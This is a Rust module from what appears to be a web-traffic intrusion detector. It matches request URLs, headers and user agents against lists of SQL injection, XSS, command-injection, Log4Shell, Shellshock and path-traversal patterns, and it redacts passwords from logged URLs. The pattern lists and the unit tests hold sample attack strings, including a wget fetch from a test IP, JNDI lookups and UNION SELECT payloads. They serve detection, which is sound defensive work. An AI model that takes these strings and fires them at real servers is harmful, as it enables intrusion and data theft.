//! What a request gives away by its URL, its headers and its user agent. Every rule is a list below: what is not on
//! it is not found.
//!
//! # URLs
//! The request target is looked at as it is, and, if anything in it is encoded, once more after it was decoded twice
//! and SQL comments and runs of blanks became one space. The patterns are chosen so that prose in a search field seldom
//! matches: keywords count in combinations, and with the punctuation around them.

use std::borrow::Cow;
use std::sync::LazyLock;

use super::matcher::Matcher;
use super::message::percent_decode;
use crate::names::dns::measure::{GENERATED, cost};

/// What a URL or a header tries.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// SQL injection.
    Sql,
    /// Cross-site scripting.
    Xss,
    /// Commands or code for the server to run.
    Command,
    /// A path out of the served tree.
    Traversal,
}

const SQL: &[&str] = &[
    "union select",
    "union all select",
    "union distinct select",
    "union(select",
    "select(0)from",
    "' or '",
    "' or 1",
    "\" or \"",
    "\" or 1",
    "' and '",
    "' and 1",
    "\" and 1",
    " or 1=1",
    " and 1=1",
    " and 1=2",
    ") or (",
    "'--",
    "' --",
    "';--",
    "'#",
    "; drop table",
    ";drop table",
    "; shutdown",
    "information_schema.",
    "sysobjects",
    "pg_sleep(",
    "benchmark(",
    "waitfor delay",
    "sleep(5)",
    "sleep(10)",
    "and sleep(",
    "or sleep(",
    "xp_cmdshell",
    "extractvalue(",
    "updatexml(",
    "load_file(",
    "into outfile",
    "into dumpfile",
    "group_concat(",
    "concat(0x",
    "char(0x",
    "' having ",
    "' group by ",
    "' order by ",
    "' union ",
    ") union ",
    "(select ",
    "0x3a,",
];

const XSS: &[&str] = &[
    "<script",
    "</script",
    "javascript:alert",
    "javascript:eval",
    "javascript:document",
    "document.cookie",
    "<svg/onload",
    "<svg onload",
    "<img src=x",
    "onerror=",
    "onload=alert",
    "onload=eval",
    "onmouseover=",
    "onfocus=alert",
    "<iframe",
    "string.fromcharcode(",
    "<body onload",
    "alert(document",
    "alert(1)",
    "prompt(1)",
    "confirm(1)",
    "vbscript:msgbox",
];

const COMMAND: &[&str] = &[
    "/bin/sh",
    "/bin/bash",
    "/bin/cat",
    "/bin/id",
    "/bin/ls",
    "cmd.exe",
    "powershell",
    "wget http",
    "curl http",
    ";wget",
    ";curl",
    "; wget",
    "; curl",
    "|wget",
    "|curl",
    ";cat /",
    "; cat /",
    "|cat /",
    "| cat /",
    "cat /etc/",
    "cat+/etc/",
    ";id;",
    "|id",
    ";ls ",
    ";uname",
    "; uname",
    "|uname",
    "$(id",
    "$(wget",
    "$(curl",
    "`id`",
    "`wget",
    "`curl",
    "`uname",
    "&&wget",
    "&& wget",
    "&&curl",
    "chmod 777",
    "chmod +x",
    ";nc ",
    "|nc ",
    "; nc ",
    "/dev/tcp/",
    "phpinfo(",
    "system(",
    "passthru(",
    "shell_exec(",
    "popen(",
    "eval(",
    "assert(",
    "base64_decode(",
    "call_user_func",
    "invokefunction",
    "auto_prepend_file",
    "allow_url_include",
    "php://input",
    "php://filter",
    "expect://",
    "data://text",
    "${jndi:",
    "${${",
    "class.module.classloader",
    "#_memberaccess",
    "java.lang.runtime",
    "getruntime()",
    "processbuilder",
    "freemarker.template",
    "{{7*7}}",
    "__import__(",
    "os.system",
    "() {",
];

const TRAVERSAL: &[&str] = &[
    "../../",
    "..\\..\\",
    "/..%c0%af",
    "..%c0%af",
    "..%c1%1c",
    "..%255c",
    "../winnt/",
    "..\\winnt\\",
    "/etc/passwd",
    "/etc/shadow",
    "/etc/hosts",
    "/proc/self/",
    "boot.ini",
    "win.ini",
    "/windows/system32/",
    "file:///",
    "web-inf/web.xml",
    "/.ssh/id_",
    "/..;/",
];

/// Files that nobody links to: who asks for them, probes.
const PROBED: &[&str] = &[
    "/.env",
    "/.git/",
    "/.svn/entries",
    "/.aws/",
    "/.ssh/",
    "/.htpasswd",
    "/.htaccess",
    "/wp-config.php",
    "/phpunit/",
    "/vendor/phpunit",
    "/.ds_store",
    "/server-status",
    "/boaform/",
    "/gponform/",
    "/hnap1",
    "/setup.cgi",
    "/manager/html",
    "/actuator/env",
    "/actuator/gateway",
    "/.vscode/",
    "/config.json.bak",
    "/backup.sql",
    "/dump.sql",
    "/phpmyadmin/scripts",
    "/cgi-bin/luci/;stok=",
    "/solr/admin/",
    "/_ignition/execute-solution",
    "/debug/pprof",
    "/owa/auth/x.js",
    "/autodiscover.json?@",
];

/// Decoded twice, lower case, blanks and SQL comments as one space.
fn normalise(text: &[u8]) -> Vec<u8> {
    let decoded = percent_decode(&percent_decode(text, true), true);
    let mut out = Vec::with_capacity(decoded.len());
    let mut rest = decoded.as_slice();
    while let Some((b, after)) = rest.split_first() {
        if let Some(comment) = rest.strip_prefix(b"/*") {
            let end = comment.windows(2).position(|w| w == b"*/").map_or(comment.len(), |at| at + 2);
            rest = &comment[end..];
            if out.last() != Some(&b' ') {
                out.push(b' ');
            }
            continue;
        }
        match b {
            b' ' | b'\t' | b'\r' | b'\n' | 0x0b | 0x0c | 0xa0 => {
                if out.last() != Some(&b' ') {
                    out.push(b' ');
                }
            }
            _ => out.push(b.to_ascii_lowercase()),
        }
        rest = after;
    }
    out
}

/// In the order in which they count if several match.
static ATTACKS: LazyLock<Matcher> = LazyLock::new(|| Matcher::new(&[COMMAND, SQL, XSS, TRAVERSAL]));
static PROBES: LazyLock<Matcher> = LazyLock::new(|| Matcher::new(&[PROBED]));

/// The attack that a request target shows, and the pattern that was found.
pub fn attack(target: &[u8]) -> Option<(Attack, &'static str)> {
    let encoded = target.iter().any(|b| matches!(b, b'%' | b'+')) || target.windows(2).any(|w| w == b"/*");
    let found = ATTACKS.find(target);
    let (pattern, rank) = if encoded { ATTACKS.find(&normalise(target)).or(found)? } else { found? };
    Some(([Attack::Command, Attack::Sql, Attack::Xss, Attack::Traversal][rank], pattern))
}

/// The file that a request probes for.
pub fn probed(target: &[u8]) -> Option<&'static str> {
    PROBES.find(target).map(|(pattern, _)| pattern)
}

static LOOKUPS: LazyLock<Matcher> =
    LazyLock::new(|| Matcher::new(&[&["${jndi:", "${${", "${lower:", "${upper:", "${env:", "${::-"]]));

/// What a header's value tries: Log4Shell's look-up (CVE-2021-44228) and its disguises, Shellshock (CVE-2014-6271).
pub fn header_attack(value: &[u8]) -> Option<&'static str> {
    if value.starts_with(b"() {") || value.starts_with(b"(){") {
        return Some("() {");
    }
    let at = value.iter().position(|b| *b == b'$')?;
    LOOKUPS.find(&value[at..]).map(|(pattern, _)| pattern)
}

/// The same in the first bytes of a form.
pub fn form_attack(form: &[u8]) -> Option<&'static str> {
    if !form.iter().any(|b| matches!(b, b'$' | b'%')) {
        return None;
    }
    LOOKUPS.find(&percent_decode(form, true)).map(|(pattern, _)| pattern)
}

/// Parameters that hold a secret, in a query or a form.
const SECRETS: &[&str] = &[
    "password",
    "passwd",
    "pwd",
    "pass",
    "passwort",
    "user_password",
    "userpassword",
    "login_password",
    "pin",
    "contrasena",
    "mot_de_passe",
];

/// The name of the parameter by which a password goes over the wire in clear, if it has a value.
pub fn secret_parameter(form: &[u8]) -> Option<&'static str> {
    form.split(|b| matches!(b, b'&' | b';' | b'?')).take(64).find_map(|pair| {
        let at = pair.iter().position(|b| *b == b'=').filter(|at| at + 1 < pair.len())?;
        // Frameworks write user[password] and form.password.
        let key = percent_decode(&pair[..at], false);
        let key = key.strip_suffix(b"]").unwrap_or(&key);
        let key = key.rsplit(|b| matches!(b, b'[' | b'.' | b':')).next().unwrap_or(key);
        SECRETS.iter().copied().find(|s| key.eq_ignore_ascii_case(s.as_bytes()))
    })
}

/// A URL with the values of such parameters, and a password before the host, left out: records hold no secrets.
pub fn redact(url: &[u8]) -> Cow<'_, [u8]> {
    let query = url.iter().position(|b| *b == b'?').map_or(url.len(), |at| at + 1);
    let secret = secret_parameter(&url[query..]).is_some();
    let authority = url.windows(3).take(16).position(|w| w == b"://").map(|at| at + 3);
    let user = authority.and_then(|from| {
        let end =
            url[from..].iter().position(|b| matches!(b, b'/' | b'?' | b'#')).map_or(url.len(), |n| from + n);
        let at = from + url[from..end].iter().rposition(|b| *b == b'@')?;
        let colon = from + url[from..at].iter().position(|b| *b == b':')?;
        Some((colon + 1, at))
    });
    if !secret && user.is_none() {
        return Cow::Borrowed(url);
    }
    let mut out = Vec::with_capacity(url.len());
    match user {
        Some((from, to)) => {
            out.extend_from_slice(&url[..from]);
            out.push(b'*');
            out.extend_from_slice(&url[to..query.max(to)]);
        }
        None => out.extend_from_slice(&url[..query]),
    }
    // Each parameter with the separator that ends it.
    for pair in url[query..].split_inclusive(|b| matches!(b, b'&' | b';' | b'?')) {
        let (body, end) = match pair.split_last() {
            Some((last, body)) if matches!(last, b'&' | b';' | b'?') => (body, &pair[body.len()..]),
            _ => (pair, &pair[pair.len()..]),
        };
        match body.iter().position(|b| *b == b'=') {
            Some(at) if secret_parameter(body).is_some() => {
                out.extend_from_slice(&body[..=at]);
                out.push(b'*');
            }
            _ => out.extend_from_slice(body),
        }
        out.extend_from_slice(end);
    }
    Cow::Owned(out)
}

/// Longer user agents are padding or payload; the longest of ordinary browsers' in-app views have some 400 bytes.
const USER_AGENT_BYTES_MAX: usize = 768;

/// Vulnerability scanners and attack tools, as they name themselves.
const SCANNERS: &[&str] = &[
    "sqlmap",
    "nikto",
    "nmap",
    "masscan",
    "zgrab",
    "nessus",
    "openvas",
    "acunetix",
    "netsparker",
    "dirbuster",
    "gobuster",
    "dirb ",
    "wpscan",
    "havij",
    "arachni",
    "w3af",
    "nuclei",
    "ffuf",
    "feroxbuster",
    "zmeu",
    "morfeus",
    "jorgee",
    "whatweb",
    "skipfish",
    "commix",
    "xsser",
    "l9explore",
    "l9tcpid",
    "fuzz faster",
    "hydra",
    "burp",
    "owasp",
    "metasploit",
    "muieblackcat",
    "sysscan",
    "python-shodan",
    "hello, world",
    "hello world",
    "mirai",
    "gbrmss",
    "zbtls",
    "jndi:",
];

/// Programs and libraries that fetch without a person before them.
const SCRIPTS: &[&str] = &[
    "curl/",
    "wget/",
    "python-requests/",
    "python-urllib/",
    "python/",
    "aiohttp/",
    "httpx/",
    "libwww-perl/",
    "lwp::simple",
    "go-http-client/",
    "node-fetch",
    "axios/",
    "ruby",
    "perl",
    "php/",
    "guzzlehttp",
    "scrapy/",
];

/// What a user agent is besides a browser or an app.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Agent {
    /// A scanner, or what only attacks send; the rule that found it.
    Suspicious(&'static str),
    /// A search engine's or archive's crawler, as it says.
    Crawler(&'static str),
    /// A script or a command-line tool.
    Script(&'static str),
}

const CRAWLERS: &[&str] = &["bot/", "bot;", "bot)", "-bot", "crawler", "spider", "slurp"];

/// Tools that name themselves after the name of a browser.
const TOOLS: &[&str] = &["windowspowershell/", "certutil url agent"];

static AGENTS: LazyLock<Matcher> = LazyLock::new(|| Matcher::new(&[SCANNERS, CRAWLERS, TOOLS]));

/// Judges a user agent.
pub fn agent(value: &[u8]) -> Option<Agent> {
    if value.is_empty() {
        return Some(Agent::Suspicious("empty"));
    }
    if value.len() > USER_AGENT_BYTES_MAX {
        return Some(Agent::Suspicious("too long"));
    }
    if value.iter().any(|b| b.is_ascii_control() && *b != b'\t') {
        return Some(Agent::Suspicious("control characters"));
    }
    if !value.iter().any(u8::is_ascii_alphanumeric) {
        return Some(Agent::Suspicious("no letters"));
    }
    // One word without meaning: malware makes up such names.
    if value.len() >= 12 && value.iter().all(u8::is_ascii_alphabetic) && cost(value) > GENERATED {
        return Some(Agent::Suspicious("random letters"));
    }
    match AGENTS.find(value) {
        Some((tool, 0)) => return Some(Agent::Suspicious(tool)),
        Some((tool, 2)) => return Some(Agent::Script(tool)),
        // Phones by Cubot name themselves too.
        Some((word, _)) if !value.windows(5).any(|w| w.eq_ignore_ascii_case(b"cubot")) => {
            return Some(Agent::Crawler(word));
        }
        _ => {}
    }
    // Libraries put their name first; browsers have it nowhere.
    let starts = |p: &str| value.get(..p.len()).is_some_and(|v| v.eq_ignore_ascii_case(p.as_bytes()));
    SCRIPTS.iter().copied().find(|p| starts(p)).map(Agent::Script)
}

/// Servers that nobody mends any more: product, and the first version that is still maintained or was until 2023.
const MAINTAINED: &[(&str, [u32; 2], &str)] = &[
    ("apache/", [2, 4], "2.2 ended in 2017"),
    ("nginx/", [1, 20], "1.18 ended in 2021"),
    ("microsoft-iis/", [8, 0], "7.5 ended in 2020"),
    ("php/", [7, 4], "7.3 ended in 2021"),
    ("openssl/", [1, 1], "1.0 ended in 2019"),
    ("lighttpd/", [1, 4], "1.4 is from 2005"),
    ("apache-coyote/", [2, 0], "Tomcat up to 8.0, which ended in 2018"),
    ("thttpd/", [2, 26], "2.25 is from 2003"),
    ("boa/", [0, 95], "0.94 is from 2005"),
    ("goahead-webs", [1, 0], "GoAhead before 3 (2012)"),
    ("squid/", [4, 0], "3.5 ended in 2018"),
];

/// The obsolete product in a `Server` or `X-Powered-By` header, and why it is that.
pub fn obsolete(value: &[u8]) -> Option<(String, &'static str)> {
    let lower = value.get(..256).unwrap_or(value).to_ascii_lowercase();
    MAINTAINED.iter().find_map(|(product, first, why)| {
        let at = lower.windows(product.len()).position(|w| w == product.as_bytes())?;
        if at > 0 && lower[at - 1].is_ascii_alphanumeric() {
            return None;
        }
        let version = &lower[at + product.len()..];
        let mut parts = version.split(|b| !b.is_ascii_digit()).take(2).map(number);
        let found = match (parts.next().flatten(), parts.next().flatten()) {
            (Some(major), minor) => {
                [major, minor.unwrap_or(if product.ends_with('/') { u32::MAX } else { 0 })]
            }
            (None, _) if !product.ends_with('/') => [0, 0],
            _ => return None,
        };
        // A major version alone says nothing about the minor.
        let end = version.iter().position(|b| !b.is_ascii_digit() && *b != b'.').unwrap_or(version.len());
        (found < *first)
            .then(|| (String::from_utf8_lossy(&lower[at..at + product.len() + end]).into_owned(), *why))
    })
}

fn number(digits: &[u8]) -> Option<u32> {
    std::str::from_utf8(digits).ok()?.parse().ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(target: &str) -> Option<Attack> {
        attack(target.as_bytes()).map(|(attack, _)| attack)
    }

    #[test]
    fn attacks() {
        for target in [
            "/item?id=1%20UNION%20SELECT%20user,pass%20FROM%20users",
            "/item?id=1+union/**/select+1,2",
            "/login?u=admin'--&p=x",
            "/a?id=1%27%20or%20%271%27=%271",
            "/a?id=1%2527%20OR%201=1",
            "/a?id=1;DROP%20TABLE%20x",
            "/a?q=1)%20and%20sleep(9)",
        ] {
            assert_eq!(of(target), Some(Attack::Sql), "{target}");
        }
        for target in [
            "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
            "/?q=\"><img src=x onerror=y>",
            "/?u=javascript:alert(2)",
            "/?n=<ScRiPt>",
        ] {
            assert_eq!(of(target), Some(Attack::Xss), "{target}");
        }
        for target in [
            "/cgi?ip=1;wget%20http://192.0.2.1/x",
            "/shell?cat%20/etc/passwd",
            "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array",
            "/?x=${jndi:ldap://192.0.2.1/a}",
            "/?x=%24%7Bjndi%3Adns%3A%2F%2Fa%7D",
            "/a?x=$(id)",
            "/?a=`id`",
            "/scripts/..%255c..%255cwinnt/system32/cmd.exe?/c+dir",
        ] {
            assert_eq!(of(target), Some(Attack::Command), "{target}");
        }
        for target in [
            "/../../../etc/shadow",
            "/d?f=..%2F..%2F..%2Fsecret",
            "/d?f=%252e%252e%252f%252e%252e%252fx",
            "/etc/passwd",
            "/x?f=..\\..\\boot.ini",
        ] {
            assert_eq!(of(target), Some(Attack::Traversal), "{target}");
        }
    }

    #[test]
    fn ordinary_urls_are_none() {
        for target in [
            "/",
            "/search?q=select+a+union+representative&lang=en",
            "/wiki/Rust_(programming_language)",
            "/a/../b.css",
            "/q?text=cats%20or%20dogs",
            "/img?size=(100,200)",
            "/q?q=it's%20or%20its",
            "/e?u=http%3A%2F%2Fexample.com%2Fa%3Fb%3Dc%26d%3De",
            "/track?json=%7B%22a%22%3A%5B1%2C2%5D%7D",
            "/scripts/app.js?v=1.2.3",
            "/order?by=date&from=2020",
            "/o'reilly/books",
            "/p;jsessionid=AB12",
            "/dir?cmd=list&sort=on",
            "/jquery.onload.js",
            "/bin/download?x=1",
            "/drop/table/5",
            "/w?t=Rock%20%26%20Roll%20(Live)",
            "/doc?ref=C%2B%2B",
        ] {
            assert_eq!(attack(target.as_bytes()), None, "{target}");
        }
    }

    #[test]
    fn probing() {
        assert_eq!(probed(b"/.env"), Some("/.env"));
        assert_eq!(probed(b"/lib/phpunit/x.php"), Some("/phpunit/"));
        assert_eq!(probed(b"/a/environment.css"), None);
        assert_eq!(header_attack(b"${jndi:ldap://x}"), Some("${jndi:"));
        assert_eq!(header_attack(b"x ${${lower:j}ndi"), Some("${${"));
        assert_eq!(header_attack(b"() { :; }; echo"), Some("() {"));
        assert_eq!(form_attack(b"u=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D"), Some("${jndi:"));
        assert_eq!(form_attack(b"price=%2410"), None);
        assert_eq!(header_attack(b"price ${amount}"), None);
    }

    #[test]
    fn secrets() {
        for form in
            ["user=a&password=x", "/login?pwd=1", "user[password]=x", "f.passwd=y&z=1", "user%5Bpass%5D=1"]
        {
            assert!(secret_parameter(form.as_bytes()).is_some(), "{form}");
        }
        for form in ["password=", "passage=1", "bypass=1", "q=password", "compass=3"] {
            assert_eq!(secret_parameter(form.as_bytes()), None, "{form}");
        }
    }

    #[test]
    fn secrets_are_left_out() {
        for (url, shown) in [
            ("/a?user=x&password=y&z=1", "/a?user=x&password=*&z=1"),
            ("/a?pwd=q", "/a?pwd=*"),
            ("http://u:secret@h/x", "http://u:*@h/x"),
            ("http://u:secret@h/x?pass=1;b=2", "http://u:*@h/x?pass=*;b=2"),
            ("http://u:secret@h", "http://u:*@h"),
            ("/a?b=c", "/a?b=c"),
            ("/", "/"),
            ("", ""),
        ] {
            assert_eq!(String::from_utf8_lossy(&redact(url.as_bytes())), shown);
        }
    }

    #[test]
    fn agents() {
        assert_eq!(agent(b"sqlmap/1.7"), Some(Agent::Suspicious("sqlmap")));
        assert_eq!(agent(b"Mozilla/5.00 (Nikto/2.1.6)"), Some(Agent::Suspicious("nikto")));
        assert_eq!(agent(b""), Some(Agent::Suspicious("empty")));
        assert_eq!(agent(b"vQxKzbjWtpHgmXqr"), Some(Agent::Suspicious("random letters")));
        assert_eq!(agent(b"MicroMessengerClient"), None);
        assert_eq!(agent(b"**"), Some(Agent::Suspicious("no letters")));
        assert_eq!(agent(&[b'a'; 1000]), Some(Agent::Suspicious("too long")));
        assert!(matches!(
            agent(b"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
            Some(Agent::Crawler(_))
        ));
        assert_eq!(agent(b"curl/8.1"), Some(Agent::Script("curl/")));
        for browser in [
            &b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/102.0.0.0 Safari/537.36"[..],
            b"Mozilla/5.0 (Linux; Android 9; CUBOT_NOTE Build/PPR1; wv)", b"Dalvik/2.1.0 (Linux; U; Android 11)", b"iTunes/12",
        ] {
            assert_eq!(agent(browser), None, "{}", String::from_utf8_lossy(browser));
        }
    }

    #[test]
    fn servers() {
        for old in [
            "Apache/2.2.15 (CentOS)",
            "nginx/1.4.6",
            "Microsoft-IIS/6.0",
            "PHP/5.6.40",
            "Apache/2.4.6 OpenSSL/1.0.2k-fips",
            "Apache-Coyote/1.1",
            "GoAhead-Webs",
        ] {
            assert!(obsolete(old.as_bytes()).is_some(), "{old}");
        }
        for fine in [
            "Apache/2.4.57",
            "Apache",
            "nginx",
            "nginx/1.24.0",
            "Microsoft-IIS/10.0",
            "cloudflare",
            "PHP/8.2.1",
            "AmazonS3",
            "Apache/2",
            "myphp/1.0",
        ] {
            assert_eq!(obsolete(fine.as_bytes()), None, "{fine}");
        }
    }

    proptest::proptest! {
        #[test]
        fn nothing_panics(text in proptest::collection::vec(proptest::num::u8::ANY, 0..200)) {
            let _ = (redact(&text), attack(&text), probed(&text), header_attack(&text), secret_parameter(&text), agent(&text), obsolete(&text));
        }
    }
}
